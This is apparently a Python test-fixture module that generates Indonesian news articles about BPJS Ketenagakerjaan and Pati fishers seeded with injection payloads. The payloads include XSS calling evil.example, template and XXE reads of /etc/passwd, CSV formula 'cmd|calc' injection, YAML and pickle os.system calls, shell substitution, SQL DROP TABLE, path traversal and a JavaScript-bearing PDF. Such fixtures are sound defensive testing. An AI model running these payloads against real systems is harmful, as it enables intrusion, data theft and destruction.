"""Attacks of our own making, and a corpus that carries each of them to the pages.

What an attack does where it is not treated as plain words: it sets ``window.__owned``, asks the host ``evil.example``, or
leaves the file ``owned``.
"""

import csv
import hashlib
import json
from collections.abc import Callable
from pathlib import Path

OWN = "window.__owned=1"
EVIL = "https://evil.example"

# One line each: it must come out as the words that it is.
WORDS = {
    "script": f"<script>{OWN}</script>",
    "script-from-elsewhere": f"<script src={EVIL}/x.js></script>",
    "script-out-of-place": f"</p></mark></title><ScRiPt/x>{OWN}</sCrIpT ><!-- ]]> */",
    "script-twice": f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    "script-in-comment": f"<!--<script>--><!--{OWN}//--></script>",
    "picture": f"<img src=x onerror={OWN}>",
    "picture-from-elsewhere": f'<img src="{EVIL}/pixel.png" srcset="//evil.example/2x 2x">',
    "attribute": f'" autofocus onfocus="{OWN}" x="',
    "attribute-in-apostrophes": f"' onmouseover='{OWN}' style='position:fixed;inset:0' x='",
    "field": f"<input autofocus onfocus={OWN}><details open ontoggle={OWN}>",
    "svg": f"<svg onload={OWN}><animate onbegin={OWN} attributeName=x dur=1s></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.{OWN}</script>'></iframe></foreignObject></svg>",
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={OWN}&gt;">',
    "mermaid": f'```mermaid graph TD; A["<img src=x onerror={OWN}>"]; click A href "javascript:{OWN}" ```',
    "mermaid-element": f"<pre class='mermaid'>%%{{init: {{'securityLevel': 'loose'}}}}%% graph LR; A--><b onclick={OWN}>B</b></pre>",
    "frame": f'<iframe src="javascript:parent.{OWN}"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "head": f'<base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}"><link rel=prefetch href="{EVIL}/p">',
    "form": f'<form action="{EVIL}"><button autofocus formaction="javascript:{OWN}">Masuk</button></form>',
    "link": f'<a href="javascript:{OWN}" ping="{EVIL}/ping">klik</a> [klik](javascript:{OWN}) javascript:{OWN}',
    "link-disguised": f"[klik](java&#9;script:{OWN}) <a href=' &#1;javascript:{OWN}'>x</a> data:text/html,<script>{OWN}</script>",
    "css": f"<style>*{{background:url({EVIL}/css)}} body{{display:none}}</style>",
    "css-import": f"}}@import '{EVIL}/a.css';body{{display:none}}/* <link rel=stylesheet href={EVIL}/b.css>",
    "entities": f"&lt;script&gt;{OWN}&lt;/script&gt; &#x3C;img src=x onerror={OWN}&#x3E; &amp;amp;",
    "jinja": "{{ 7*7 }} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }} {# tersembunyi #} {% raw %}",
    "other-templates": "${7*7} #{7*7} <%= 7*7 %> {0.__class__} {n} %(n)s %s {document} {{{x}}}",
    "markdown": f"**tebal** ![x]({EVIL}/md.png) [x]: {EVIL} `kode` ~~coret~~ [^1] | a | b | --- <{EVIL}/auto>",
    "typst": '#read("report.typ") #import "report.typ": * #link("https://evil.example")[x] $x^2$ #panic() @acuan <label> */ \\u{41}',
    "typst-heading": '= Judul #set page(width: 1pt) #pagebreak() `raw` _a_ *b* ~ -- --- // komentar "kutip"',
    "latex": f"\\input{{/etc/passwd}} $$\\href{{javascript:{OWN}}}{{x}}$$ \\(\\unicode{{x41}}\\)",
    "formula-equals": f'=HYPERLINK("{EVIL}/?"&A1;"Klik")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-full-width": "＝1+1 ＋1 －1 ＠SUM(1)",
    "formula-quoted": '"=1+1","=2+2";=3+3',
    "path": "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd %2e%2e%2f",
    "yaml": "!!python/object/apply:os.system [touch owned] &a [*a, *a] --- ...",
    "pickle": "cos system (S'touch owned' tR.",
    "python": "'); import os; os.system('touch owned') #",
    "shell": "$(touch owned) `touch owned` ; touch owned | sh && touch owned",
    "sql": "'; DROP TABLE documents; -- \" OR 1=1",
    "search": "\\u003c/script> '\"`${1} __proto__ constructor toString %q=%",
    "json": '"}],"x":[{"$ref":"https://evil.example/s.json","@context":"https://evil.example/c"}',
    "homoglyphs": "ВРЈЅ Кеtеnаgаkеrјааn \U0001d401\U0001d40f ｂｐｊｓ",
    "zero-width": "pe\u200bker\u200cja\u200d ren\u2060tan\u00ad nel\u200dayan",
    "emoji": "👩\u200d👩\u200d👧\u200d👦 🇮🇩 \U000e0001\U000e0041",
    "numbers": f"{'9' * 400} pekerja, 1e999 persen, Rp{'9.999.' * 60}999, 0 dari 0, -5 persen, 100000000000 persen",
    "signs-joined-to-one": "\u1100" * 400 + " " + "👩\u200d" * 300 + "👩 " + "\u0600" * 300 + "1",
    "dates": "31 Februari 9999, 31 Februari 2024, 29 Februari 2023, 0/0/0000, (99/99/99999), tahun 00000, Nomor 99999999999999999999 Tahun 99999",
    "brackets": "(" * 1500 + "[" * 500 + ")" * 1500,
    "quotation-marks": "“‘" * 700 + '"' * 701 + "’”" * 700,
    "long-word": "jangkau" * 700,
    "long-word-of-hyphens": "x-" * 2500,
}  # fmt: skip

# What no page can hold is left out or replaced; the words around it stay.
UNPRINTABLE = {
    "towers-of-marks": "a" + "\u0301" * 60 + " b" + "\u20e3" * 20 + " z" + "\u0e47" * 500 + " k" + "\u094d" * 90,
    "bidi": "\u202e\u2066terbalik\u2069\u202c \u200f\u061c kanan",
    "controls": "\x1b]0;owned\x07" + " dan karena itu" * 20 + " \x85 \x0c",  # more of them would be no text
    "noncharacters": "\ufdd0 \ufffe \U0001ffff",
    "line-ends": "satu\u2028dua\u2029tiga",
    "formula-tab": "\t=1+1",
    "formula-line-end": "\n=1+1\r=2+2",
}

ATTACKS = WORDS | UNPRINTABLE

HEAD = "BPJS Ketenagakerjaan Pati dan nelayan"


def article(attack: str) -> str:
    """An article on topic whose every kind of evidence holds the attack; its first words keep it on topic."""
    return "\n\n".join(
        [
            f"{attack} {HEAD}",
            "PATI – BPJS Ketenagakerjaan Cabang Pati mendaftarkan nelayan di Kabupaten Pati, Selasa (12/3/2024). Iuran "
            "pekerja rentan ditanggung Pemkab Pati, dan ahli waris peserta menerima santunan jaminan kematian (JKM).",
            f"BPJS Ketenagakerjaan menggelar sosialisasi {attack} bagi 120 nelayan {attack} di Kabupaten Pati.",
            f"{attack}",
            f"Pemkab Pati menanggung iuran 2.000 pekerja rentan {attack} lewat APBD sesuai Peraturan Bupati Nomor 7 "
            f"Tahun 2021 tentang {attack} Jaminan Sosial Ketenagakerjaan. Kepesertaan {attack} baru 43 persen.",
            f'"Kami ingin {attack} semua nelayan terlindungi jaminan kematian (JKM)," kata Kepala Dinas Tenaga Kerja '
            f"Kabupaten Pati, Rahmat Subekti {attack}.",
            f"Camat Juwana {attack} mendatangi pasar untuk mendaftarkan pedagang peserta BPJS Ketenagakerjaan.",
        ]
    )


def write_corpus(folder: Path, attacks: dict[str, str] = ATTACKS) -> None:
    """An article an attack, in its text, headline, address, publisher, and in the publisher, licence and note of its card.

    Half of them may be shown whole; of the others a page shows the sentences that something was read from.
    """
    folder.mkdir(parents=True)
    with (folder / "articles.csv").open("w", encoding="utf-8", newline="") as file:
        cards = csv.writer(file)
        cards.writerow("file sha256 kind outlet url published retrieved licence note".split())
        for number, (name, attack) in enumerate(attacks.items()):
            path = folder / f"{name}.jsonl"
            row = {"id": attack, "title": f"{attack} {HEAD}", "outlet": attack, "url": attack, "text": article(attack)}
            path.write_text(json.dumps(row), encoding="utf-8")
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            kind = "original" if number % 3 == 2 else "brief"
            url = f"javascript:{OWN}//{attack}" if number % 2 else f"{EVIL}/{attack}"
            cards.writerow([path.name, digest, kind, f"{attack} Koran", url, "", "2024-03-13", attack, attack])


LABEL = f'=HYPERLINK("{EVIL}")<script>{OWN}</script><img src=x onerror={OWN}>{{{{ 7*7 }}}}#read("report.typ")'


def poison_codebook(folder: Path) -> None:
    """Put an attack into labels, definitions, names of regions and titles of instruments of a codebook."""
    swaps = {
        "strategies.yaml": 'en: "Information session',
        "target_groups.yaml": 'en: "Fishers',
        "programmes.yaml": 'en: "Work',
    }
    for name, label in swaps.items():
        path = folder / name
        text = path.read_text(encoding="utf-8")
        assert label in text, (name, label)
        quoted = LABEL.replace("\\", "\\\\").replace('"', '\\"')
        path.write_text(text.replace(label, f'en: "{quoted}', 1), encoding="utf-8")
    path = folder / "regions.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("Jawa Tengah", "Jawa Tengah<script>x</script>"), "utf-8")


# Files that are broken or dangerous before a word is read: (name, what it holds)
def _jsonl(*rows: str) -> bytes:
    return "\n".join(rows).encode()


FILES: dict[str, Callable[[], bytes]] = {
    "broken-utf-8.txt": lambda: article("x").encode() + b"\xff\xfe\xc3\x28 \xf0\x28\x8c\xbc",
    "cut-utf-8.txt": lambda: article("é").encode()[:-1] + b"\xe2\x82",
    "overlong-utf-8.txt": lambda: article("x").encode() + b"\xc0\xafetc\xc0\xaf",
    "nul.txt": lambda: article("x\x00y").encode(),
    "nul-only.txt": lambda: b"\x00" * 5000,
    "mark-only.txt": lambda: b"\xef\xbb\xbf",
    "utf-16.txt": lambda: article("x").encode("utf-16"),
    "utf-16-cut.txt": lambda: article("x").encode("utf-16")[:-1],
    "utf-7.txt": lambda: article("+ADw-script+AD4-").encode(),
    "surrogates.jsonl": lambda: _jsonl(r'{"id":"\ud800","title":"\udfff","text":"Nelayan \ud83d Pati \udc00"}'),
    "not-json.jsonl": lambda: _jsonl("{", "[]", "null", "1", '"x"', "{}", '{"text":1}', '{"text":{"text":"x"}}'),
    "deep.jsonl": lambda: _jsonl("[" * 100_000, '{"a":' * 100_000, '{"text":"' + "[" * 1000 + '"}'),
    "numbers.jsonl": lambda: _jsonl('{"id":1e999,"text":"a"}', '{"id":NaN,"text":"b"}', '{"id":%s,"text":"c"}' % ("9" * 5000)),
    "twice.jsonl": lambda: _jsonl('{"text":"satu","text":"dua","__proto__":{"text":"tiga"},"id":"__proto__"}'),
    "paths.jsonl": lambda: _jsonl(*(json.dumps({"id": i, "text": f"Teks {i}"}) for i in PATHS)),
    "broken.csv": lambda: b'text,title\n"tak pernah ditutup\n' + b"x\n" * 1000,
    "quotes.csv": lambda: b'text\n"a"b"c"\n',
    "nul.csv": lambda: b"text,title\nNelayan\x00 Pati,x\n",
    "columns.csv": lambda: b"text" + b"," * 20_000 + b"\nx" + b"," * 30_000 + b"\n",
    "formula.csv": lambda: b"title,text\n=1+1,=2+2 BPJS Ketenagakerjaan\n",
    "broken.parquet": lambda: b"PAR1" + b"\xff" * 100 + b"PAR1",
    "pickle.txt": lambda: b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "broken.pdf": lambda: b"%PDF-1.7\n" + b"\xff" * 1000,
    "loop.pdf": lambda: pdf({1: "/Type/Catalog/Pages 2 0 R", 2: "/Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R"}),
    "script.pdf": lambda: pdf(
        {
            1: "/Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
            2: "/Type/Pages/Kids[]/Count 0",
        }
    ),
    "broken.docx": lambda: b"PK\x03\x04" + b"\x00" * 100,
    "empty.docx": lambda: b"PK\x05\x06" + b"\x00" * 18,
    "deep.html": lambda: b"<div>" * 20_000 + article("x").encode() + b"</div>" * 20_000,
    "scripts.html": lambda: (
        f"<html><head><title>{OWN}</title><script>{OWN}</script><base href={EVIL}></head><body onload={OWN}><article>"
        f"<h1>Nelayan</h1><p>{article('x')}</p><img src={EVIL}/p.png></article></body></html>"
    ).encode(),
    "entities.html": lambda: (
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
        f"<html><body><article><p>{article('&b;&c;')}</p></article></body></html>"
    ).encode(),
}  # fmt: skip

# Names that lead elsewhere where they are taken for paths, or that some systems keep for themselves.
PATHS = [
    "../../../tmp/owned", "..", ".", "/etc/passwd", "C:\\owned", "a/b/c", "con", "nul.txt", "%2e%2e%2fowned", "index",
    "INDEX", "~root", "-rf", "$(touch owned)", "a\nb", "a" * 500, "<script>", "\u202etxt.exe", "x?y#z", "é", "é",
]  # fmt: skip


def pdf(objects: dict[int, str | bytes]) -> bytes:
    """A PDF of objects: the content of a dictionary, or a whole object."""
    made = b"%PDF-1.7\n"
    places = {}
    for number, content in objects.items():
        places[number] = len(made)
        whole = content if isinstance(content, bytes) else f"<<{content}>>".encode()
        made += b"%d 0 obj\n%s\nendobj\n" % (number, whole)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (max(places) + 1)
    made += b"".join(
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(1, max(places) + 1)
    )
    return made + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (max(places) + 1, start)
